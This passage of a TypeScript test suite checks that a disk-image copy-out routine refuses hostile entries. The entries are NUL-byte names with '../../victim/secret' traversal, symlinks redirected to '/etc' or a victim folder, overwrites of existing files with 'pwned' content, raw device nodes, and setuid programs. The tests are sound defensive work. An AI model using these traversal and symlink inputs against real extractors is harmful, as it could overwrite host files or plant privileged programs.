        { kind: 'entry', stat },
        { kind: 'entry', stat: { ...stat, path: '/data/g' } },
      ]),
    );
    expect(openBelow(base)).toEqual([]);
  });
});

// ---- names ------------------------------------------------------------------------------------------

describe('names', () => {
  it('a NUL byte in a name or a symlink target (inspect.c cannot send one): EPROTO, not a raw TypeError', async () => {
    for (const w of [
      new Walk().dir('/data').file('/data/a\0/../../victim/secret', 'pwned\n'),
      new Walk().dir('/data').dir('/data/d\0x'),
      new Walk().dir('/data').symlink('/data/s', `${victim}\0/secret`),
    ]) {
      clear();
      await refused(w.events());
      expect(tree()).toEqual(['data/']);
    }
  });

  it('a name longer than the host allows: its errno, not a raw error', async () => {
    await refused(
      new Walk()
        .dir('/data')
        .file(`/data/${'n'.repeat(300)}`, 'long\n')
        .events(),
      'ENAMETOOLONG',
    );
  });
});

// ---- what exists in the destination already ------------------------------------------------------

describe('nothing that was in the destination is written', () => {
  const old = new Date('2002-03-04T05:06:07Z');
  const mine = (path: string, content = 'mine\n') => {
    writeFileSync(path, content);
    utimesSync(path, old, old);
  };

  it('the copied path itself cannot be read: its errno as the error, nothing made', async () => {
    const s = snapshot(host);
    const err = await refused(new Walk().error('/data', 2).events(), 'ENOENT');
    expect(err.message).toBe('/data: ENOENT: no such file or folder');
    expect(snapshot(host)).toEqual(s);
  });

  it('a destination that is not there, or is a file: ENOENT or ENOTDIR before anything is read or made', async () => {
    for (const [dest, code] of [
      [join(host, 'missing'), 'ENOENT'],
      [join(host, 'a-file'), 'ENOTDIR'],
    ] as const) {
      if (code === 'ENOTDIR') mine(dest);
      const s = snapshot(host);
      for (const source of ['/', '/data']) {
        const err = await copyOut(new Walk().dir(source).events(), source, dest).catch((e: Error) => e);
        expect(err).toBeInstanceOf(ApplianceError);
        expect(err).toMatchObject({ code });
        expect((err as Error).message).toContain(dest);
      }
      expect(snapshot(host)).toEqual(s);
    }
  });

  it('a file of the same name: EEXIST, not truncated, not rewritten', async () => {
    mine(join(host, 'data'));
    const s = snapshot(host);
    await refused(new Walk().file('/data', 'pwned: longer than what was there\n').events(), 'EEXIST');
    await refused(new Walk().file('/data', '').events(), 'EEXIST');
    expect(snapshot(host)).toEqual(s);
  });

  it('a folder of the same name: EEXIST, and what is in it stays', async () => {
    mkdirSync(join(host, 'data'));
    mine(join(host, 'data', 'x'));
    const s = snapshot(host);
    await refused(new Walk().dir('/data').file('/data/x', 'pwned\n').events(), 'EEXIST');
    expect(snapshot(host)).toEqual(s);
  });

  it('a symlink of the same name to the victim folder, or dangling into it', async () => {
    symlinkSync(victim, join(host, 'data'));
    await refused(new Walk().dir('/data').file('/data/evil', 'pwned\n').events(), 'EEXIST');
    await refused(new Walk().file('/data', 'pwned\n').events(), 'EEXIST');
    rmSync(join(host, 'data'));
    symlinkSync(join(victim, 'planted'), join(host, 'data'));
    await refused(new Walk().file('/data', 'pwned\n').events(), 'EEXIST');
    await refused(new Walk().symlink('/data', '/etc').events(), 'EEXIST');
    await refused(new Walk().entry('/data', 'fifo').events(), 'EEXIST');
    expect(readlinkSync(join(host, 'data'))).toBe(join(victim, 'planted'));
  });

  it('"/" into a folder that is not empty: EEXIST before anything is read', async () => {
    mine(join(host, 'x'));
    const s = snapshot(host);
    await refused(new Walk().dir('/').file('/x', 'pwned\n').events(), 'EEXIST', '/');
    expect(snapshot(host)).toEqual(s);
  });

  it('"/" sent as a file or a symlink over the destination itself', async () => {
    await refused(new Walk().file('/', 'pwned\n').events(), 'EPROTO', '/');
    await refused(new Walk().symlink('/', victim).events(), 'EPROTO', '/');
    await keptOut(new Walk().dir('/').file('/x', 'one\n').file('//x', 'two\n').events(), '/');
    expect(readFileSync(join(host, 'x'), 'utf8')).toBe('one\n');
    expect(lstatSync(host).isDirectory()).toBe(true);
  });
});

// ---- device nodes, sockets, set-id bits ------------------------------------------------------------

/** copyOut sees an ordinary user (it asks process.getuid()); the real writes still succeed, so what is checked is what copyOut asked for. */
const notRoot = () => vi.spyOn(process as { getuid(): number }, 'getuid').mockReturnValue(1000);

/** A setgid folder with a setuid and a setgid program, owned by `uid`. */
const setid = (uid: number) =>
  new Walk()
    .dir('/data', { mode: 0o2775, uid, gid: 1000 })
    .file('/data/su', '#!/bin/sh\n', { mode: 0o4755, uid })
    .file('/data/sg', '#!/bin/sh\n', { mode: 0o2755, uid, gid: 50 });

describe('devices, sockets and set-id bits', () => {
  it('not root: device nodes and sockets are skipped, named in the result, and nothing is made for them', async () => {
    notRoot();
    const r = await outcome(
      new Walk()
        .dir('/data')
        .entry('/data/sda', 'blockdev', { mode: 0o666, rdev: [8, 0] })
        .entry('/data/mem', 'chardev', { mode: 0o666, rdev: [1, 1] })
        .entry('/data/sock', 'socket')
        .events(),
    );
    expect((r as CopyOutResult).skipped).toEqual([
      '/data/sda: not copied: a blockdev, which only root can make',
      '/data/mem: not copied: a chardev, which only root can make',
      '/data/sock: not copied: a socket (made by the program that listens on it)',
    ]);
    expect(tree()).toEqual(['data/']);
  });

  it('root: a device node is made where the stream says, inside the destination, as tar would', async () => {
    if (process.getuid?.() !== 0) return;
    // Documented (SECURITY.md 7): device nodes and owners are made only as root. Like
    // virt-copy-out (tar as root), a copy of /dev/sda's node is a node for the host's own
    // disk: copy into a folder only you can enter, or onto a nodev mount.
    const r = await outcome(
      new Walk()
        .dir('/data')
        .entry('/data/null', 'chardev', { mode: 0o600, rdev: [1, 3], uid: 1234 })
        .entry('/data/sock', 'socket')
        .events(),
    );
    expect((r as CopyOutResult).skipped).toEqual(['/data/sock: not copied: a socket (made by the program that listens on it)']);
    const s = lstatSync(join(host, 'data/null'));
    expect(s.isCharacterDevice()).toBe(true);
    expect(s.rdev).toBe((1 << 8) | 3);
    expect(s.uid).toBe(1234);
    expect(tree()).toEqual(['data/', 'data/null']);
  });

  it('root: set-id bits and owners are kept (as virt-copy-out, tar -p as root, does)', async () => {
    if (process.getuid?.() !== 0) return;
    // Documented: as root, copy-out keeps modes and owners as the image has them, so a
    // setuid-root program in the image is one in the copy (inside the destination).
    await outcome(setid(1000).events());
    expect(lstatSync(join(host, 'data/su'))).toMatchObject({ mode: 0o104755, uid: 1000 });
    expect(lstatSync(join(host, 'data/sg'))).toMatchObject({ mode: 0o102755, gid: 50 });
    expect(lstatSync(join(host, 'data'))).toMatchObject({ mode: 0o042775, uid: 1000, gid: 1000 });
  });

  it('not root: no set-id bit on a file the caller owns (it would run as the caller for anyone), as tar as a user', async () => {
    // Without chown the copy belongs to the caller: a 04755 file from the image would be a
    // program that runs as the caller for every local user who can reach it.
    notRoot();
    const r = await outcome(setid(4321).events());
    expect(r).not.toBeInstanceOf(Error);
    const me = process.geteuid!();
    expect(lstatSync(join(host, 'data/su'))).toMatchObject({ mode: 0o100755, uid: me });
    expect(lstatSync(join(host, 'data/sg'))).toMatchObject({ mode: 0o100755, uid: me });
    expect(lstatSync(join(host, 'data')).mode).toBe(0o040775);
  });

  it('a FIFO or device in a folder whose name is not UTF-8 is made there (its temporary name is not)', async () => {
    const dir = Buffer.from('/data/d\xe9j\xe0', 'latin1');
    const r = await outcome(
      new Walk()
        .dir('/data')
        .dir(dir)
        .entry(Buffer.concat([dir, Buffer.from('/fifo')]), 'fifo')
        .events(),
    );
    expect(r).not.toBeInstanceOf(Error);
    expect(lstatSync(Buffer.concat([Buffer.from(host), dir, Buffer.from('/fifo')])).isFIFO()).toBe(true);
    expect(readdirSync(join(host, 'data'), { encoding: 'buffer' }).map((n) => n.toString('latin1'))).toEqual(['d\xe9j\xe0']);
  });
});
